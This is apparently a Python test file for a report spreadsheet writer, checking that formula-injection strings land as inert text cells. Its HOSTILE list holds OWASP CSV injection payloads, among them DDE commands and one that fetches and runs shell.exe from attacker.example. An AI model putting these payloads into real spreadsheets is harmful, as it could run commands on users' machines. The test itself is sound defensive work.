"""tables.xlsx: every string is a text cell, kept verbatim; nothing a spreadsheet could run (OWASP CSV injection)."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest

from evalkit.report.spreadsheet import FORMULA_STARTS, write_workbook

#: The OWASP "CSV injection" payloads (https://owasp.org/www-community/attacks/CSV_Injection), the DDE forms,
#: and the full-width '＝' a Japanese input method types.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://x","y")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=1+1\r\n",
    'DDE("cmd";"/C calc";"!A0")A0',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "＝1+1",
    "-",
    "plain text",
]


@pytest.fixture
def workbook(tmp_path):
    table = {
        "notebook": "10_spending_vs_approvals",
        "title": "=title",
        "source": "+source",
        "units": ["", "億円"],
        "columns": ["plan", "disbursed_oku_yen"],
        "rows": [[value, 1.5] for value in HOSTILE] + [["negative number stays a number", -2.0]],
    }
    path = tmp_path / "tables.xlsx"
    write_workbook([table], path, as_of_label="undated")
    return path


def test_no_formula_anywhere_and_every_string_reads_back_verbatim(workbook):
    with zipfile.ZipFile(workbook) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = openpyxl.load_workbook(workbook)
    sheet = wb["10_01 spending_vs_approvals"]
    cells = {row[0].row: row for row in sheet.iter_rows(min_row=5)}
    for offset, value in enumerate(HOSTILE):
        cell = cells[5 + offset][0]
        assert (cell.value, cell.data_type) == (value, "s"), cell.coordinate
        assert cell.quotePrefix is value.startswith(FORMULA_STARTS), cell.coordinate
    last = cells[5 + len(HOSTILE)][1]
    assert (last.value, last.data_type) == (-2.0, "n")
    for other in wb.worksheets:
        for row in other.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{other.title}!{cell.coordinate}"
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == ("=title", "s", True)
    assert wb["index"]["D2"].value == "+source"


def test_characters_xml_cannot_carry_are_escaped_not_fatal(tmp_path):
    table = {"notebook": "10_x", "source": "s", "units": [], "columns": ["a"], "rows": [["x\x01y\x1fz"]]}
    path = tmp_path / "t.xlsx"
    write_workbook([table], path, as_of_label="x")  # openpyxl alone raises IllegalCharacterError
    assert openpyxl.load_workbook(path).worksheets[1]["A5"].value == "x_x0001_y_x001F_z"
